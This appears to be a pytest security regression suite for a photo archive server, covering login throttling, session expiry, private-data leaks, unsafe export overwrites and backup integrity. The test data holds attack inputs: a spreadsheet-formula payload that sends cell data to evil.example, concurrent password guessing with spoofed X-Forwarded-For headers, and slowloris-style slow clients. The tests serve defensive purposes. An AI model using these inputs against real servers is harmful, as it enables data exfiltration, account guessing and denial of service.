"""Issue 13: hostile traffic and careless operators, against a real server.

Each test reproduces one finding of the attack on the archive (anonymous
visitor, archivist, operator) and shows it now holds. The IIIF and image
decoding findings (1, 2, 7 and the IIIF parts of 9) are tested with the
IIIF work; finding 11 in test_upload_form.py.
"""

import json
import os
import re
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from concurrent.futures import ThreadPoolExecutor

import pytest
import requests
from servers import NGINX, flask_dev, gunicorn, peak_memory_mb
from support import PASSWORD, PROJECT_ROOT, files_under, json_lines

from archive import db as archive_db
from archive.accounts import auth
from archive.ingest.pipeline import FileWork, Ingester, Provenance


def manage(data_dir, *args):
    return [sys.executable, str(PROJECT_ROOT / "manage_archive.py"), "--data", str(data_dir), *map(str, args)]


def csrf_token(session, base, path="/login"):
    page = session.get(f"{base}{path}", timeout=30)
    return re.search(r'name="csrf_token" type="hidden" value="([^"]+)"', page.text).group(1)


def log_in(base, username, password=PASSWORD):
    session = requests.Session()
    response = session.post(f"{base}/login", data={"username": username, "password": password,
                                                     "csrf_token": csrf_token(session, base)},
                            timeout=30, allow_redirects=False)
    assert response.status_code == 302, response.text
    return session


# -- finding 10: a failed commit and a concurrent photo of the same bytes ----------------


def original_of(data_dir, sha256, ext="jpg"):
    return data_dir / "originals" / sha256[:2] / sha256[2:4] / f"{sha256}.{ext}"


def two_workers(data_dir):
    return [Ingester(archive_db.connect(data_dir), FileWork(data_dir, 10**9, 10**9)) for _ in range(2)]


def test_a_failed_commit_never_removes_an_original_a_committed_photo_relies_on(app, data_dir, make_image):
    """Worker A writes the original; worker B, with the same bytes, finds it
    there and commits its photo; then A's commit fails on an error that is
    not A's (the database held by another writer past A's busy timeout).
    A's clean-up must leave the original B's photo now relies on."""
    path = make_image("same.jpg")
    a, b = two_workers(data_dir)
    prepared_a = a.files.prepare(path, "a.jpg", a.photo_with_sha)
    prepared_b = b.files.prepare(path, "b.jpg", b.photo_with_sha)
    original = original_of(data_dir, prepared_a.sha256)
    assert str(original) in prepared_a.created_files and str(original) not in prepared_b.created_files
    assert b.commit(prepared_b, Provenance("b.jpg", "web")).status == "imported"

    blocker = archive_db.connect(data_dir)
    blocker.conn.execute("BEGIN IMMEDIATE")
    a.db.conn.execute("PRAGMA busy_timeout = 50")
    with pytest.raises(sqlite3.OperationalError, match="locked"):
        a.commit(prepared_a, Provenance("a.jpg", "web"))
    blocker.conn.execute("ROLLBACK")

    assert original.exists()
    verify = subprocess.run(manage(data_dir, "verify", "--json"), capture_output=True, text=True)
    assert verify.returncode == 0, verify.stdout


def test_a_photo_never_commits_without_its_original(app, data_dir, make_image):
    """The other order: A's commit fails and A cleans up before B commits the
    photo whose original B found in place. B's photo must still have its file."""
    path = make_image("same.jpg")
    a, b = two_workers(data_dir)
    prepared_a = a.files.prepare(path, "a.jpg", a.photo_with_sha)
    prepared_b = b.files.prepare(path, "b.jpg", b.photo_with_sha)

    blocker = archive_db.connect(data_dir)
    blocker.conn.execute("BEGIN IMMEDIATE")
    a.db.conn.execute("PRAGMA busy_timeout = 50")
    with pytest.raises(sqlite3.OperationalError, match="locked"):
        a.commit(prepared_a, Provenance("a.jpg", "web"))
    blocker.conn.execute("ROLLBACK")
    a.db.conn.execute(f"PRAGMA busy_timeout = {archive_db.BUSY_TIMEOUT_MS}")
    a.forget(prepared_a)  # the clean-up, now that the lock can be had

    outcome = b.commit(prepared_b, Provenance("b.jpg", "web"))
    assert outcome.status == "imported"  # its original taken back from the trash
    assert original_of(data_dir, prepared_b.sha256).exists()
    # A's derivatives went with A; B's are made again on request or by repair.
    client = app.test_client()
    assert client.get(f"/photos/{outcome.photo_id}").status_code == 200
    verify = subprocess.run(manage(data_dir, "verify", "--repair", "--json"), capture_output=True, text=True)
    report = json.loads(verify.stdout)
    assert verify.returncode == 0 and report["originals_checked"] == 1, report
    assert {p["kind"] for p in report["problems"]} <= {"missing-derivative"}


def test_verify_after_an_import_killed_with_sigkill_sweeps_its_temp_files(make_image, data_dir):
    """kill -9 in the middle of an import: verify removes what the dead
    writers left half written, as garbage, and reports no damage for it."""
    from archive.storage import dead_temp_files

    folder = [make_image(f"trip/{i:03d}.png", seed=i) for i in range(8)][0].parent
    for _attempt in range(5):
        process = subprocess.Popen(manage(data_dir, "import", folder, "--workers", "2"),
                                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not list(data_dir.rglob(".tmp-*")):
            time.sleep(0.005)
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()
        # The workers die with it; their ids are free once they are reaped.
        deadline = time.monotonic() + 3
        while not (left := dead_temp_files(data_dir)) and time.monotonic() < deadline:
            time.sleep(0.05)
        if left:
            break
    assert left, "no import was caught with a temp file open"
    result = subprocess.run(manage(data_dir, "verify", "--json"), capture_output=True, text=True)
    report = json.loads(result.stdout)
    assert report["swept_temp_files"] == len(left)
    assert dead_temp_files(data_dir) == []
    # Whole files of photos not yet committed may be there (orphans, for
    # --repair); nothing is reported about the temp files.
    assert {p["kind"] for p in report["problems"]} <= {"orphan-file"}
    assert all(".tmp-" not in (p["path"] or "") for p in report["problems"])


# -- finding 3: the login throttle under a crowd ------------------------------------------


def login_attempts(base, attempts):
    """POST /login once per (username, password, address), all at once, each
    with its own session and CSRF token; the server believes X-Forwarded-For."""
    sessions = []
    for _, _, address in attempts:
        session = requests.Session()
        session.headers["X-Forwarded-For"] = address
        sessions.append((session, csrf_token(session, base)))
    start = threading.Barrier(len(attempts))

    def attempt(i):
        (session, token), (username, password, _) = sessions[i], attempts[i]
        start.wait()
        return session.post(f"{base}/login", data={"username": username, "password": password,
                                                    "csrf_token": token},
                            timeout=60, allow_redirects=False).status_code

    with ThreadPoolExecutor(len(attempts)) as pool:
        return list(pool.map(attempt, range(len(attempts))))


def crowd_of_guesses(base, address):
    """40 guesses at kim's password sent at the same moment, then the right
    one: the attack found that all 40 were checked and the 41st got in."""
    statuses = login_attempts(base, [("kim", f"guess number {i}", address) for i in range(40)])
    return statuses, login_attempts(base, [("kim", PASSWORD, address)])[0]


@pytest.fixture
def accounts(data_dir):
    db = archive_db.connect(data_dir)
    auth.add_user(db, "kim", PASSWORD, "archivist")
    db.close()


def test_a_crowd_of_logins_checks_no_more_passwords_than_the_limit_on_the_dev_server(data_dir, accounts):
    with flask_dev(data_dir, env={"ARCHIVE_TRUSTED_PROXIES": "1"}) as base:
        statuses, right = crowd_of_guesses(base, "203.0.113.5")
        assert statuses.count(401) <= auth.MAX_FAILURES_PER_USER_AND_ADDRESS, statuses
        assert set(statuses) <= {401, 429, 503}, statuses
        assert right == 429  # the limit holds for the right password too

        # 60 anonymous logins at once, each from its own address (so no limit
        # stops them): scrypt's 32 MB each would be 2 GB; the cap keeps two.
        statuses = login_attempts(base, [(f"nobody{i}", "guess guess guess", f"198.51.100.{i}")
                                         for i in range(60)])
        assert set(statuses) <= {401, 503}, statuses
        assert peak_memory_mb(base) < 400  # about 160 MB here; uncapped it was 1.76 GB


# -- findings 4 and 9: sessions and what visitors learn, on one gunicorn -----------------


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """An archive under gunicorn: a public photo whose title is a spreadsheet
    formula and who uploaded it, its private near-copy from a private trip,
    tagged with a set and a subject no public photo carries."""
    from click.testing import CliRunner
    from support import image_bytes, scene

    from archive.cli import cli
    from archive.dedup import decisions
    from archive.dedup.matching import Verdict

    root = tmp_path_factory.mktemp("hostile")
    data_dir, made = root / "media", root / "made"
    made.mkdir()
    (made / "public.jpg").write_bytes(image_bytes(scene(640, 480, seed=7)))
    (made / "copy.jpg").write_bytes(image_bytes(scene(640, 480, seed=7).resize((480, 360))))
    runner = CliRunner()
    out = runner.invoke(cli, ["--data", str(data_dir), "import", str(made / "public.jpg"), "--json"]).output
    public_id = json_lines(out)[0]["photo_id"]
    out = runner.invoke(cli, ["--data", str(data_dir), "import", str(made / "copy.jpg"), "--json",
                              "--trip", "secret expedition 2019", "--tag", "set:railway",
                              "--tag", "subject:statue"]).output
    private_id = json_lines(out)[0]["photo_id"]
    db = archive_db.connect(data_dir)
    db.execute("UPDATE photos SET title = ?, uploaded_by = 'archie' WHERE id = ?",
               ['=HYPERLINK("http://evil.example/?"&A1, "click")', public_id])
    db.execute("UPDATE photos SET is_public = 0 WHERE id = ?", [private_id])
    if not decisions.duplicate_photo_ids(db):
        decisions.suggest(db, public_id, private_id, Verdict("duplicate", 3, 4, "upright", 0.0))
    for name, role in (("ada", "admin"), ("archie", "archivist"), ("kim", "archivist")):
        auth.add_user(db, name, PASSWORD, role)
    db.close()
    # As the attack found it: four workers; X-Forwarded-For believed, so one
    # test run can stand for many addresses.
    with gunicorn(data_dir, workers=4, env={"ARCHIVE_TRUSTED_PROXIES": "1"}) as base:
        yield {"base": base, "data_dir": data_dir, "public": public_id, "private": private_id}


def test_a_crowd_of_logins_checks_no_more_passwords_than_the_limit_under_gunicorn(site):
    statuses, right = crowd_of_guesses(site["base"], "203.0.113.9")
    assert statuses.count(401) <= auth.MAX_FAILURES_PER_USER_AND_ADDRESS, statuses
    assert set(statuses) <= {401, 429, 503} and right == 429, statuses
    db = archive_db.connect(site["data_dir"])
    counted = db.execute("SELECT count(*) FROM login_failures WHERE key = 'user:kim|203.0.113.9'").fetchone()[0]
    db.close()
    assert counted == statuses.count(401)  # every checked guess counted, none more


def test_logging_out_ends_the_session_in_every_copy_of_the_cookie(site):
    base = site["base"]
    session = log_in(base, "archie")
    token = session.get(f"{base}/api/session", timeout=30).json()["csrf_token"]
    copy = requests.Session()
    copy.cookies.update(session.cookies)
    assert copy.get(f"{base}/upload", timeout=30, allow_redirects=False).status_code == 200
    assert session.post(f"{base}/logout", data={"csrf_token": token}, timeout=30,
                        allow_redirects=False).status_code == 302
    assert copy.get(f"{base}/upload", timeout=30, allow_redirects=False).status_code == 302
    # Nor can the copy change anything: its CSRF token still matches the cookie.
    response = copy.post(f"{base}/api/photos/{site['public']}/visibility", json={"public": False},
                         headers={"X-CSRFToken": token}, timeout=30)
    assert response.status_code == 401
    assert requests.get(f"{base}/api/photos/{site['public']}", timeout=30).status_code == 200


def test_a_new_password_ends_every_session_of_that_account(site):
    base = site["base"]
    sessions = [log_in(base, "archie"), log_in(base, "archie")]
    subprocess.run(manage(site["data_dir"], "users", "passwd", "archie", "--password-stdin"),
                   input="a brand new password\n", text=True, check=True, capture_output=True)
    for session in sessions:
        assert session.get(f"{base}/upload", timeout=30, allow_redirects=False).status_code == 302
    subprocess.run(manage(site["data_dir"], "users", "passwd", "archie", "--password-stdin"),
                   input=PASSWORD + "\n", text=True, check=True, capture_output=True)


def test_csv_exports_never_hold_a_spreadsheet_formula(site, tmp_path):
    base = site["base"]
    for path in ("/api/export.csv", "/search.csv?q="):
        text = requests.get(base + path, timeout=30).text
        assert '"\'=HYPERLINK(' in text, path
        assert '"=HYPERLINK(' not in text and ",=HYPERLINK(" not in text, path
    dest = tmp_path / "photos.csv"
    subprocess.run(manage(site["data_dir"], "export", "--format", "csv", dest), check=True, capture_output=True)
    assert '"\'=HYPERLINK(' in dest.read_text() and '"=HYPERLINK(' not in dest.read_text()


def test_visitors_see_no_tag_only_private_photos_carry(site):
    base = site["base"]
    archivist = log_in(base, "ada")
    for page, tag, unused in (("/sets", "/sets/railway", "/sets/japanese-street"),
                              ("/subjects", "/subjects/statue", "/subjects/mosaic")):
        assert tag in archivist.get(base + page, timeout=30).text  # the test can fail
        visitor_page = requests.get(base + page, timeout=30).text
        assert tag not in visitor_page and unused in visitor_page
        assert requests.get(base + tag, timeout=30).status_code == 404
        assert requests.get(base + unused, timeout=30).status_code == 200


def test_a_search_for_a_private_trip_answers_as_for_an_unknown_one(site):
    base = site["base"]
    archivist = log_in(base, "ada")
    assert archivist.get(f"{base}/api/search", params={"q": 'trip:"secret expedition 2019"'},
                         timeout=30).json()["total"] == 1
    answers = []
    for trip in ("secret expedition 2019", "no such trip 2019"):
        response = requests.get(f"{base}/api/search", params={"q": f'trip:"{trip}"'}, timeout=30)
        answers.append((response.status_code, response.text.replace(trip, "TRIP")))
    assert answers[0] == answers[1]


def test_is_duplicate_does_not_tell_visitors_of_a_private_copy(site):
    base = site["base"]
    archivist = log_in(base, "ada")
    found = {r["id"] for r in archivist.get(f"{base}/api/search", params={"q": "is:duplicate"},
                                           timeout=30).json()["results"]}
    assert found == {site["public"], site["private"]}
    assert requests.get(f"{base}/api/search", params={"q": "is:duplicate"}, timeout=30).json()["total"] == 0
    assert requests.get(f"{base}/api/search", params={"q": "-is:duplicate"}, timeout=30).json()["total"] == 1


def test_public_exports_do_not_name_archivists(site, tmp_path):
    base = site["base"]
    assert "archie" not in requests.get(f"{base}/api/export.csv", timeout=30).text
    assert all(p["uploaded_by"] is None for p in requests.get(f"{base}/api/export.json", timeout=30).json()["photos"])
    archivist = log_in(base, "ada")
    assert "archie" in archivist.get(f"{base}/api/export.csv", timeout=30).text
    dest = tmp_path / "public.json"
    subprocess.run(manage(site["data_dir"], "export", "--format", "json", dest, "--public-only"),
                   check=True, capture_output=True)
    assert "archie" not in dest.read_text()
    bag = tmp_path / "public-bag"
    subprocess.run(manage(site["data_dir"], "export", "--format", "bagit", bag, "--public-only"),
                   check=True, capture_output=True)
    assert "archie" not in (bag / "data" / "photos.json").read_text()
    assert "archie" not in (bag / "data" / "photos" / f"{site['public']:06d}" / "metadata.json").read_text()


def test_an_out_of_range_user_id_is_a_clean_404(site):
    base = site["base"]
    admin = log_in(base, "ada")
    token = admin.get(f"{base}/api/session", timeout=30).json()["csrf_token"]
    for user_id in ("9223372036854775808", "99999999999999999999999999", "9223372036854775807", "0"):
        response = admin.post(f"{base}/admin/users/{user_id}", data={"action": "disable", "csrf_token": token},
                              timeout=30, allow_redirects=False)
        assert response.status_code == 404, (user_id, response.status_code)


# -- finding 4: idle and absolute session lifetimes --------------------------------------


def test_sessions_end_when_idle_or_old(data_dir, app, db):
    from support import logged_in_client

    user = auth.add_user(db, "kim", PASSWORD)
    secret = auth.start_session(db, user)
    start = time.time()
    idle, longest = auth.SESSION_IDLE_SECONDS, auth.SESSION_MAX_SECONDS
    assert auth.user_for_session(db, secret, now=start + idle - 1).username == "kim"
    # Used a moment ago, so not idle; but past the absolute lifetime all the same.
    for step in range(1, longest // (idle - 1) + 3):
        found = auth.user_for_session(db, secret, now=start + step * (idle - 1))
        assert (found is not None) == (step * (idle - 1) <= longest)
    other = auth.start_session(db, user)
    assert auth.user_for_session(db, other, now=time.time() + idle + 1) is None  # idle too long
    assert db.execute("SELECT count(*) FROM sessions").fetchone()[0] == 0  # both rows gone

    from archive import create_app

    for setting in ("SESSION_IDLE_MINUTES", "SESSION_MAX_HOURS"):
        strict = create_app({"DATA_DIR": data_dir, "TESTING": True, "SECRET_KEY": "t",
                             "WTF_CSRF_ENABLED": False, setting: 0})
        client = logged_in_client(strict, user)
        time.sleep(0.01)
        assert client.get("/upload").status_code == 302, setting


# -- findings 5 and 6: backups that never lie, operators who slip -----------------------


@pytest.fixture
def imported(run_cli, make_image, db):
    paths = [make_image(f"b/{i}.jpg", width=300, height=200, seed=i) for i in range(8)]
    run_cli("import", paths[0].parent)
    return [row[0] for row in db.execute("SELECT id FROM photos ORDER BY id")]


def test_a_backup_taken_while_photos_are_deleted_holds_every_original_it_names(imported, data_dir, tmp_path,
                                                                                 run_cli):
    """The snapshot is taken, then an admin deletes photos before their
    originals are copied: the backup still finds them (in the trash)."""
    from archive.catalogue import deletion
    from archive.preservation import backup

    deleted = []

    def delete_meanwhile():
        if not deleted:
            db = archive_db.connect(data_dir)
            deleted.extend(deletion.delete_photos(db, data_dir, imported[2:8]))
            db.close()

    manifest = backup.backup(data_dir, tmp_path / "bk", progress=delete_meanwhile)
    assert deleted and manifest["photos"] == 8 and manifest["originals_checked"] == 8
    restored = tmp_path / "restored"
    result = subprocess.run(manage(restored, "restore", tmp_path / "bk"), capture_output=True, text=True)
    assert result.returncode == 0, result.stderr
    verify = subprocess.run(manage(restored, "verify", "--json"), capture_output=True, text=True)
    assert verify.returncode == 0 and json.loads(verify.stdout)["photos"] == 8


def test_a_backup_missing_an_original_says_so_and_keeps_the_last_good_one(imported, data_dir, tmp_path, run_cli,
                                                                           db):
    dest = tmp_path / "bk"
    assert run_cli("backup", dest).exit_code == 0
    good = (dest / "archive.db").read_bytes()
    sha256, ext = db.execute("SELECT sha256, ext FROM photos WHERE id = ?", [imported[0]]).fetchone()
    original_of(data_dir, sha256, ext).unlink()  # gone from the archive, and not by a deletion
    (dest / "originals" / sha256[:2] / sha256[2:4] / f"{sha256}.{ext}").write_bytes(b"rot")
    run_cli("import", data_dir.parent / "made" / "b")  # something new to back up
    result = run_cli("backup", dest)
    assert result.exit_code == 1
    assert "incomplete" in result.output and f"{sha256}.{ext}" in result.output
    assert (dest / "archive.db").read_bytes() == good and not (dest / "archive.db.new").exists()


def test_export_backup_and_restore_refuse_to_overwrite(imported, data_dir, tmp_path, run_cli):
    live = data_dir / "archive.db"
    for force in ((), ("--force",)):
        result = run_cli("export", "--format", "json", live, "--ids", "1", *force)
        assert result.exit_code == 1 and "outside the data directory" in result.output
    assert sqlite3.connect(live).execute("SELECT count(*) FROM photos").fetchone()[0] == 8
    assert run_cli("export", "--format", "csv", data_dir / "new.csv").exit_code == 1
    assert not (data_dir / "new.csv").exists()

    mine = tmp_path / "mine.csv"
    mine.write_text("my own notes")
    result = run_cli("export", "--format", "csv", mine)
    assert result.exit_code == 1 and "already exists" in result.output and mine.read_text() == "my own notes"
    assert run_cli("export", "--format", "csv", mine, "--force").exit_code == 0
    assert mine.read_text().startswith("id,sha256")

    folder = tmp_path / "things"
    folder.mkdir()
    (folder / "keep.txt").write_text("mine")
    result = run_cli("backup", folder)
    assert result.exit_code == 1 and "already exists" in result.output
    assert files_under(folder) == ["keep.txt"]
    assert run_cli("backup", tmp_path / "bk").exit_code == 0
    assert run_cli("backup", tmp_path / "bk").exit_code == 0  # an earlier backup is brought up to date

    bag = tmp_path / "bag"
    assert run_cli("export", "--format", "bagit", bag).exit_code == 0
    assert run_cli("export", "--format", "bagit", bag).exit_code == 1
    assert run_cli("export", "--format", "bagit", bag, "--ids", "1", "--force").exit_code == 0
    assert len(files_under(bag / "data" / "photos")) == 3  # the new bag: one photo
    assert run_cli("export", "--format", "bagit", folder, "--force").exit_code == 1  # not a bag: never replaced

    occupied = tmp_path / "occupied"
    occupied.mkdir()
    (occupied / "notes.txt").write_text("mine")
    restore = subprocess.run(manage(occupied, "restore", tmp_path / "bk"), capture_output=True, text=True)
    assert restore.returncode == 1 and "already holds files" in restore.stderr
    assert files_under(occupied) == ["notes.txt"]


# -- finding 8: slow clients under the production recipe ---------------------------------


def slow_clients(port, stop, header_only=4, body=4):
    """Connections that send a request a byte at a time and never finish:
    half stall in their headers, half in a login form's body."""

    def trickle(head, tail):
        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
            sock.sendall(head)
            for byte in tail:
                if stop.wait(0.5):
                    return
                sock.sendall(bytes([byte]))

    heads = [(b"GET / HTTP/1.1\r\nHost: archive\r\n", b"X-Slow: " + b"a" * 200)] * header_only
    form = b"username=kim&password=" + b"x" * 200
    heads += [(b"POST /login HTTP/1.1\r\nHost: archive\r\nContent-Type: application/x-www-form-urlencoded\r\n"
               b"Content-Length: %d\r\n\r\n" % len(form), form)] * body
    threads = [threading.Thread(target=trickle, args=pair, daemon=True) for pair in heads]
    for thread in threads:
        thread.start()
    return threads


@pytest.mark.skipif(not os.access(NGINX, os.X_OK),
                    reason="nginx is not installed (.ci/run installs it): the production recipe puts it in front")
def test_slow_clients_do_not_block_visitors_under_the_production_recipe(site, tmp_path):
    """gunicorn's four sync workers behind docs/nginx.conf. (Without nginx,
    four such clients hold all four workers and a visitor waits for them.)"""
    from servers import nginx_in_front

    with nginx_in_front(site["base"], site["data_dir"], tmp_path / "nginx") as base:
        port = int(base.rsplit(":", 1)[1])
        stop = threading.Event()
        threads = slow_clients(port, stop, header_only=8, body=8)
        try:
            time.sleep(1.0)  # every slow client is connected and trickling
            for _ in range(5):
                started = time.monotonic()
                response = requests.get(f"{base}/", timeout=5)
                assert response.status_code == 200
                assert time.monotonic() - started < 1.0
                time.sleep(0.3)
        finally:
            stop.set()
            for thread in threads:
                thread.join()
